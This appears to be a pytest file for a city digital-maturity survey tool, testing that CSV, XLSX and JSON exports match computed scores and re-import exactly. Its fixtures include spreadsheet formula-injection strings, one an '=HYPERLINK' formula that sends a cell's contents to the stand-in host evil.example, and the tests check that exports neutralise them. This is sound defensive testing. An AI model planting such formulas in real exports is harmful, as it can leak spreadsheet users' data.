"""Exports of a round: ``dmat export`` and the download buttons, reopened and checked against
``dmat scores``; the answers re-import with ``dmat responses import``."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from openpyxl import load_workbook

from assessment.demo import DEMO_PASSWORD
from assessment.lookups import round_named
from assessment.results import round_scores
from tests.test_compare_access import client_for

ROUND = "2022 follow-up"


def scores(dmat, round_name: str = ROUND) -> list[dict]:
    result = dmat("scores", "--round", round_name, "--format", "json")
    assert result.exit_code == 0, result.output
    return json.loads(result.output)


def expected_rows(rows: list[dict]) -> list[list]:
    """``dmat scores`` as rows of (city, area, score, stage, completeness, agreement)."""
    out = []
    for row in rows:
        for key, area in row["areas"].items():
            out.append(
                [
                    row["city"],
                    key,
                    area["score"],
                    area["stage"],
                    area["completeness"],
                    area["agreement"],
                ]
            )
        out.append([row["city"], "overall", row["overall"], row["stage"], None, None])
    return out


def number(text: str | None):
    if text in ("", None):
        return None
    value = float(text)
    return value


def close(actual: list[list], expected: list[list]) -> None:
    assert len(actual) == len(expected)
    for got, want in zip(actual, expected, strict=True):
        assert got[:2] == want[:2]
        for a, b in zip(got[2:], want[2:], strict=True):
            assert (a is None) == (b is None), (got, want)
            if b is not None:
                assert a == pytest.approx(b, rel=1e-12), (got, want)


def test_csv_export_reopens_with_the_scores(app, demo, dmat, tmp_path):
    target = tmp_path / "export.zip"
    result = dmat("export", "--round", ROUND, "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as archive:
        names = ["agreed.csv", "answers.csv", "indicators.csv", "plans.csv", "scores.csv"]
        assert sorted(archive.namelist()) == names
        score_lines = list(csv.DictReader(io.StringIO(archive.read("scores.csv").decode())))
        answers = list(csv.reader(io.StringIO(archive.read("answers.csv").decode())))
    actual = [
        [
            r["city"],
            r["area"],
            number(r["score"]),
            number(r["stage"]),
            number(r["completeness"]),
            number(r["agreement"]),
        ]
        for r in score_lines
    ]
    close(actual, expected_rows(scores(dmat)))
    assert answers[0] == ["city", "respondent", "question", "answer", "comment", "evidence", "note"]
    assert len(answers) > 1000
    assert {row[3] for row in answers[1:]} <= {
        "1",
        "2",
        "3",
        "4",
        "5",
        "dont_know",
        "not_applicable",
    }


def test_xlsx_export_reopens_with_the_scores(app, demo, dmat, tmp_path):
    target = tmp_path / "export.xlsx"
    assert dmat("export", "--round", ROUND, "--format", "xlsx", "-o", str(target)).exit_code == 0
    workbook = load_workbook(target, read_only=True)
    assert workbook.sheetnames == [
        "answers",
        "scores",
        "agreed",
        "questions",
        "indicators",
        "plans",
    ]
    rows = list(workbook["scores"].iter_rows(values_only=True))
    header = list(rows[0])
    index = {name: header.index(name) for name in header}
    # a read-only sheet leaves out empty cells at the end of a row
    rows = [tuple(r) + (None,) * (len(header) - len(r)) for r in rows]
    actual = [
        [
            r[index["city"]],
            r[index["area"]],
            r[index["score"]],
            r[index["stage"]],
            r[index["completeness"]],
            r[index["agreement"]],
        ]
        for r in rows[1:]
    ]
    workbook.close()
    close(actual, expected_rows(scores(dmat)))


def test_json_export_reopens_with_the_scores(app, demo, dmat, tmp_path):
    target = tmp_path / "export.json"
    assert dmat("export", "--round", ROUND, "--format", "json", "-o", str(target)).exit_code == 0
    document = json.loads(target.read_text())
    assert document["round"] == ROUND
    assert document["questionnaire"] == "city-digital-maturity:2"
    assert document["scores"] == scores(dmat)
    assert set(document["cohort"]) == {
        "vision",
        "governance",
        "systems",
        "user_centric",
        "data",
        "overall",
    }
    assert set(document["answers"][0]) == {
        "city",
        "respondent",
        "question",
        "answer",
        "comment",
        "evidence",
        "note",
    }
    # the cohort is the round's submitted cities: Sofia, Athens and Riga are still answering
    submitted = [s for s in round_scores(round_named(ROUND)) if s.assessment.is_submitted]
    assert len(submitted) == 18
    assert document["cohort"]["overall"]["n"] == sum(
        s.result.overall is not None for s in submitted
    )
    assert document["cohort"]["vision"]["n"] == sum(
        s.result.areas["vision"].score is not None for s in submitted
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_answers_reimport_to_the_same_scores(app, demo, dmat, tmp_path, fmt):
    """The answers part of an export, imported into a new round, gives the same figures."""
    target = tmp_path / f"export.{fmt}"
    assert (
        dmat("export", "--round", "2020 baseline", "--format", fmt, "-o", str(target)).exit_code
        == 0
    )
    if fmt == "csv":
        with zipfile.ZipFile(target) as archive:
            answers = tmp_path / "answers.csv"
            answers.write_bytes(archive.read("answers.csv"))
    else:
        answers = target
    result = dmat("round", "create", "--name", "copy", "--questionnaire", "city-digital-maturity:2")
    assert result.exit_code == 0, result.output
    result = dmat("responses", "import", "--round", "copy", str(answers))
    assert result.exit_code == 0, result.output
    original = scores(dmat, "2020 baseline")
    copy = scores(dmat, "copy")
    for row in original + copy:
        row.pop("round")
    assert copy == original


def test_download_buttons_give_the_same_files(app, demo, dmat, tmp_path):
    client = client_for(app, demo["coordinator"], DEMO_PASSWORD)
    round_ = round_named(ROUND)
    page = client.get(f"/compare/rounds/{round_.id}").get_data(as_text=True)
    for fmt in ("csv", "xlsx", "json"):
        assert f"/compare/rounds/{round_.id}/export.{fmt}" in page
    response = client.get(f"/compare/rounds/{round_.id}/export.json")
    assert (
        response.headers["Content-Disposition"] == 'attachment; filename="dmat-2022-follow-up.json"'
    )
    assert json.loads(response.data)["scores"] == scores(dmat)
    response = client.get(f"/compare/rounds/{round_.id}/export.csv")
    assert 'filename="dmat-2022-follow-up-csv.zip"' in response.headers["Content-Disposition"]
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        assert "answers.csv" in archive.namelist()


def test_export_bad_input(app, demo, dmat, tmp_path):
    result = dmat("export", "--round", "nope", "--format", "csv", "-o", str(tmp_path / "x"))
    assert result.exit_code == 1 and "no round named 'nope'" in result.output
    result = dmat("export", "--round", ROUND, "--format", "pdf", "-o", str(tmp_path / "x"))
    assert result.exit_code == 2
    result = dmat(
        "export", "--round", ROUND, "--format", "csv", "-o", str(tmp_path / "missing" / "x")
    )
    assert result.exit_code == 1 and "no such directory" in result.output
    result = dmat("export", "--round", ROUND, "--format", "csv", "-o", str(tmp_path))
    assert result.exit_code == 1 and "is a directory" in result.output
    assert "Traceback" not in result.output
    assert list(tmp_path.iterdir()) == []


HOSTILE_CITIES = ("=1+1", "@SUM(A1)", "-2+3", "+Σ", "'=x", "Πάτρα")
HOSTILE_COMMENTS = (
    '=HYPERLINK("http://evil.example/?x="&B2,"open")',
    "+Σοφία",
    "-1",
    "@SUM(A1:A9)",
    "'=x",
    "''+y",
    "'\t=cmd",
    "'просто цитат",
    "обикновен коментар",
)


def hostile_round(make_round, make_city):
    """A round whose city names and comments a spreadsheet would take as formulas."""
    from assessment.extensions import db
    from assessment.models import Answer, AnswerKind, Assessment, Response, Role, User

    round_ = make_round("Ξάνθη 2024")
    questions = [q for area in round_.questionnaire.areas for q in area.questions]
    for number, name in enumerate(HOSTILE_CITIES):
        city = make_city(name, "GR")
        assessment = Assessment(round_id=round_.id, city_id=city.id)
        user = User(email=f"member{number}@city.example", role=Role.RESPONDENT, city_id=city.id)
        response = Response(assessment=assessment, respondent=user)
        db.session.add_all([assessment, user, response])
        for index, question in enumerate(questions):
            comment = HOSTILE_COMMENTS[(index + number) % len(HOSTILE_COMMENTS)]
            response.answers.append(
                Answer(
                    question=question, kind=AnswerKind.LEVEL, level=2 + index % 3, comment=comment
                )
            )
    db.session.commit()
    return round_


def stored_comments(round_name: str) -> list[tuple[str, str, str]]:
    from sqlalchemy import select

    from assessment.extensions import db
    from assessment.models import Answer, Assessment, City, Question, Response, Round

    return sorted(
        db.session.execute(
            select(City.name, Question.key, Answer.comment)
            .join(Response, Answer.response_id == Response.id)
            .join(Assessment, Response.assessment_id == Assessment.id)
            .join(City, Assessment.city_id == City.id)
            .join(Round, Assessment.round_id == Round.id)
            .join(Question, Answer.question_id == Question.id)
            .where(Round.name == round_name)
        ).all()
    )


def test_text_that_a_spreadsheet_would_run_is_quoted_reversibly():
    from assessment.files import FORMULA_TRIGGERS, spreadsheet_cell, spreadsheet_text

    texts = [
        *HOSTILE_CITIES,
        *HOSTILE_COMMENTS,
        "\r=1",
        "\tx",
        "'",
        "''",
        "'''@",
        "",
        "3",
        "dont_know",
    ]
    for text in texts:
        cell = spreadsheet_cell(text)
        assert cell[:1] not in FORMULA_TRIGGERS, text
        assert spreadsheet_text(cell) == text
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("'=x") == "''=x"
    assert spreadsheet_cell("'plain") == "'plain" and spreadsheet_cell("Σ=1") == "Σ=1"
    assert spreadsheet_text("'=x") == "=x" and spreadsheet_text("'plain") == "'plain"
    for number in (-2.5, -3, 0, 41.25, None):
        assert spreadsheet_cell(number) is number  # a number stays a number, minus sign and all


def test_xlsx_export_has_no_formula_and_reimports_the_exact_text(
    app, dmat, make_round, make_city, tmp_path
):
    from assessment.files import spreadsheet_cell

    round_ = hostile_round(make_round, make_city)
    target = tmp_path / "export.xlsx"
    result = dmat("export", "--round", round_.name, "--format", "xlsx", "-o", str(target))
    assert result.exit_code == 0, result.output
    workbook = load_workbook(target)  # not read-only: cells keep their data type
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    answers = list(workbook["answers"].iter_rows(min_row=2, values_only=True))
    assert {row[0] for row in answers} == {spreadsheet_cell(name) for name in HOSTILE_CITIES}
    assert "'=1+1" in texts and "'-2+3" in texts and "''=x" in texts and "'+Σ" in texts
    assert {row[4] for row in answers} == {spreadsheet_cell(c) for c in HOSTILE_COMMENTS}
    assert spreadsheet_cell(HOSTILE_COMMENTS[0]) == "'" + HOSTILE_COMMENTS[0]
    header, *scores_sheet = workbook["scores"].iter_rows(values_only=True)
    column = {name: header.index(name) for name in header}
    assert {row[0] for row in scores_sheet} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
    for row in scores_sheet:  # numbers stay numbers
        assert isinstance(row[column["respondents"]], int), row
        assert row[column["score"]] is None or isinstance(row[column["score"]], int | float), row
    workbook.close()

    before = stored_comments(round_.name)
    assert {comment for *_, comment in before} == set(HOSTILE_COMMENTS)
    make_round("copy")
    result = dmat("responses", "import", "--round", "copy", str(target))
    assert result.exit_code == 0, result.output
    assert stored_comments("copy") == before


def test_csv_export_quotes_text_cells_and_reimports_the_exact_text(
    app, dmat, make_round, make_city, tmp_path
):
    from assessment.files import spreadsheet_cell

    round_ = hostile_round(make_round, make_city)
    target = tmp_path / "export.zip"
    result = dmat("export", "--round", round_.name, "--format", "csv", "-o", str(target))
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(target) as archive:
        answers_csv = archive.read("answers.csv")
        answers = list(csv.reader(io.StringIO(answers_csv.decode())))[1:]
        score_lines = list(csv.reader(io.StringIO(archive.read("scores.csv").decode())))[1:]
    assert {row[0] for row in answers} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
    for row in answers:
        assert row[0][:1] not in "=+-@" and row[4][:1] not in "=+-@\t\r"
    assert {row[4] for row in answers} == {spreadsheet_cell(c) for c in HOSTILE_COMMENTS}
    assert {row[0] for row in score_lines} == {spreadsheet_cell(n) for n in HOSTILE_CITIES}
    for row in score_lines:
        float(row[4])  # scores are written as numbers, never quoted
        assert int(row[2]) == 1
    # ``dmat scores --format csv`` writes the same cells
    printed = dmat("scores", "--round", round_.name, "--format", "csv")
    assert printed.exit_code == 0, printed.output
    cities = {row[0] for row in list(csv.reader(io.StringIO(printed.output)))[1:]}
    assert cities == {spreadsheet_cell(n) for n in HOSTILE_CITIES}

    before = stored_comments(round_.name)
    make_round("copy")
    (tmp_path / "answers.csv").write_bytes(answers_csv)
    result = dmat("responses", "import", "--round", "copy", str(tmp_path / "answers.csv"))
    assert result.exit_code == 0, result.output
    assert stored_comments("copy") == before


def test_the_import_page_reads_an_export_back_exactly(
    app, dmat, make_round, make_city, make_user, client, tmp_path
):
    from assessment.models import Role
    from tests.conftest import csrf_token, login

    round_ = hostile_round(make_round, make_city)
    data = {}
    for fmt in ("xlsx", "csv"):
        target = tmp_path / f"export-{fmt}"
        assert (
            dmat("export", "--round", round_.name, "--format", fmt, "-o", str(target)).exit_code
            == 0
        )
        data[fmt] = target.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data["csv"])) as archive:
        data["csv"] = archive.read("answers.csv")
    before = stored_comments(round_.name)
    make_user("coordinator@programme.example", Role.COORDINATOR)
    login(client, "coordinator@programme.example")
    for fmt in ("xlsx", "csv"):
        copy = make_round(f"copy {fmt}")
        response = client.post(
            f"/admin/rounds/{copy.id}/import",
            data={
                "csrf_token": csrf_token(client, f"/admin/rounds/{copy.id}/import"),
                "file": (io.BytesIO(data[fmt]), f"answers.{fmt}"),
            },
            content_type="multipart/form-data",
        )
        assert response.status_code == 302, response.get_data(as_text=True)
        assert stored_comments(f"copy {fmt}") == before


def test_xlsx_export_reads_well_titles_formats_widths_frozen_header(app, demo, dmat, tmp_path):
    """Titles beside the keys, the city's country and status, one decimal shown while the cell
    keeps the full value, set column widths and a frozen header on every sheet."""
    from assessment.lookups import round_named

    target = tmp_path / "export.xlsx"
    assert dmat("export", "--round", ROUND, "--format", "xlsx", "-o", str(target)).exit_code == 0
    workbook = load_workbook(target)
    expected = {row["city"]: row for row in scores(dmat)}
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        assert all(cell.font.b for cell in sheet[1]), sheet.title
        assert sheet.column_dimensions["A"].width >= 20, sheet.title
    sheet = workbook["scores"]
    header = [cell.value for cell in sheet[1]]
    assert header[:7] == [
        "city", "country", "status", "round", "respondents", "area", "area_title"
    ]  # fmt: skip
    column = {name: header.index(name) for name in header}
    statuses = {}
    for row in sheet.iter_rows(min_row=2):
        city, area = row[0].value, row[column["area"]].value
        statuses[city] = row[column["status"]].value
        if area == "overall":
            continue
        score = row[column["score"]]
        assert score.number_format == "0.0"
        assert row[column["completeness"]].number_format == "0.0%"
        wanted = expected[city]["areas"][area]["score"]
        # the full value (to the 15 digits a spreadsheet keeps), not one rounded to 0.1
        assert score.value == pytest.approx(wanted, rel=1e-13, abs=1e-13)
        if city == "Sofia" and area == "vision":
            assert row[column["country"]].value == "BG"
            assert row[column["area_title"]].value == "Digital vision"
    submitted = {a.city.name for a in round_named(ROUND).assessments if a.is_submitted}
    assert {c for c, status in statuses.items() if status == "submitted"} == submitted
    assert statuses["Sofia"] == "in_progress"
    questions = list(workbook["questions"].iter_rows(values_only=True))
    assert questions[0] == (
        "question", "question_title", "area", "area_title", "levels", "allow_na"
    )  # fmt: skip
    keys = [q.key for area in round_named(ROUND).questionnaire.areas for q in area.questions]
    assert [row[0] for row in questions[1:]] == keys
    assert all(row[1] and row[3] and row[4] == 5 for row in questions[1:])
    workbook.close()
